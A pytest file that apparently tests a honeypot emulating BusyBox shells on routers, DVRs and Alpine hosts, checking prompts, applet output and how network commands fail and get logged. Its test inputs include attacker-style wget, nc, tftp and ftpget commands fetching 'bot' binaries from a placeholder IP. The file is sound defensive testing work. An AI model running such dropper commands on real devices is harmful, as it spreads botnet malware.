"""A machine with BusyBox: its shell, its process table, its formats, and what it says when it is called wrongly."""

import re

import pytest

from decnet_actors.contracts.machine import Pty
from decnet_actors.domain.facts import DownloadRequested
from tests.decnet_actors.machine.shells import Visitor, machine, run

PERSONAS = ["alpine:3.19", "router:mips", "router:mipsel", "dvr:armv7", "camera:armv5", "printer:armv7"]
TERMINAL = Pty(term="xterm", columns=80, rows=24)


def said(host, command):
    return run(host, command).output.decode()


def seated(distribution, service="telnet"):
    return Visitor(machine(distribution=distribution), pty=TERMINAL, service=service).open()


@pytest.mark.parametrize("distribution", PERSONAS)
def test_nothing_calls_itself_bash(distribution):
    seat = seated(distribution)
    shown = seat.type("ps; set; echo $0 $SHELL; nosuch\r").decode() + seat.type("sh\r").decode()

    assert "bash" not in shown.lower()
    assert re.search(r"-(?:a)?sh: nosuch: not found\r\n", shown)


@pytest.mark.parametrize(
    ("distribution", "prompt"), [("alpine:3.19", "{host}:~# "), ("router:mips", "~ # "), ("dvr:armv7", "~ # ")]
)
def test_prompt_is_that_of_the_system(distribution, prompt):
    host = machine(distribution=distribution)
    seat = Visitor(host, pty=TERMINAL, service="telnet").open()

    assert seat.output.decode().endswith(prompt.format(host=host.persona.hostname.partition(".")[0]))


@pytest.mark.parametrize("distribution", PERSONAS)
def test_all_applets_of_the_list_are_there_and_are_many(distribution):
    host = machine(distribution=distribution)
    listed = said(host, "busybox --list").split()
    linked = {name for folder in ("/bin", "/sbin", "/usr/bin", "/usr/sbin") for name in host.files.list(folder)}

    assert len(listed) >= 100
    assert set() == set(listed) - linked - {"busybox"}


def test_versions_of_the_personas_are_in_every_usage():
    for distribution in PERSONAS:
        host = machine(distribution=distribution)
        package = host.persona.packages["busybox"]
        upstream = re.split(r"[ -]", package)[0]

        assert f"BusyBox v{upstream} (" in said(host, "wget"), distribution
        assert "\nUsage: wget [-cqS] [--spider]" in said(host, "wget"), distribution


def test_formats_are_those_of_applets():
    alpine, device = machine(distribution="alpine:3.19"), machine(distribution="dvr:armv7")

    assert said(alpine, "ps").startswith("PID   USER     TIME  COMMAND\n    1 root      0:00 /sbin/init\n")
    assert said(device, "ps").startswith("  PID USER       VSZ STAT COMMAND\n    1 root")
    assert said(alpine, "free").startswith("              total        used        free      shared  buff/cache")
    assert said(device, "free").startswith("              total         used         free       shared      buffers\n")
    assert said(alpine, "df").startswith("Filesystem           1K-blocks      Used Available Use% Mounted on\n")
    assert re.match(
        r"eth0      Link encap:Ethernet  HWaddr [0-9A-F:]{17}  \n          inet addr:", said(device, "ifconfig")
    )
    assert re.match(r" \d\d:\d\d:\d\d up \d+ days, +\d+:\d\d,  load average: ", said(device, "uptime"))


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("wget http://203.0.113.5/x", "wget: can't connect to remote host (203.0.113.5): Operation timed out\n"),
        ("wget http://nosuch.example/x", "wget: bad address 'nosuch.example'\n"),
        ("busybox nc 203.0.113.5 80", "nc: can't connect to remote host (203.0.113.5): Operation timed out\n"),
        ("ping -c 1 10.0.0.1", "1 packets transmitted, 1 packets received, 0% packet loss\n"),
    ],
)
def test_what_would_reach_the_network_fails_in_the_words_of_the_applet_and_is_recorded(command, words):
    ran = run(machine(distribution="alpine:3.19"), command)

    assert words in ran.output.decode()
    assert 1 == len([fact for fact in ran.facts if isinstance(fact, DownloadRequested)])


def test_devices_transfer_with_tftp_and_ftpget():
    ran = run(machine(distribution="router:mipsel"), "tftp -g -l .b -r bot.mips 203.0.113.5; ftpget 203.0.113.5 .b bot")
    urls = [fact.url for fact in ran.facts if isinstance(fact, DownloadRequested)]

    assert ["tftp://203.0.113.5/bot.mips", "ftp://203.0.113.5/bot"] == urls
    assert b"tftp: timeout\nftpget: can't connect to remote host (203.0.113.5): Connection timed out\n" == ran.output


def test_a_program_for_another_processor_is_taken_for_a_script():
    host = machine(distribution="router:mipsel")
    ran = run(host, r"printf '\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\076\0' > /tmp/b; chmod +x /tmp/b; /tmp/b; echo $?")

    assert b'/tmp/b: line 1: syntax error: unexpected word (expecting ")")\n2\n' == ran.output


def test_what_is_there_and_does_nothing_is_no_list_of_applets():
    host = machine(distribution="alpine:3.19")

    assert "" == said(host, "udhcpc -i eth0")
    assert "Usage: swapoff [-a] [DEVICE]\n" in said(host, "swapoff")
    assert "Currently defined" not in said(host, "vi --help; chroot /nosuch; watchdog")


def test_busybox_on_a_debian_speaks_as_itself():
    host = machine()

    assert "cat: can't open 'x': No such file or directory\n" == said(host, "busybox cat x")
    assert "cat: x: No such file or directory\n" == said(host, "cat x")


def test_leaving_ash_is_silent():
    seat = seated("router:mips")
    shown = seat.type("exit\r")

    assert b"exit\r\n" == shown
    assert seat.ended
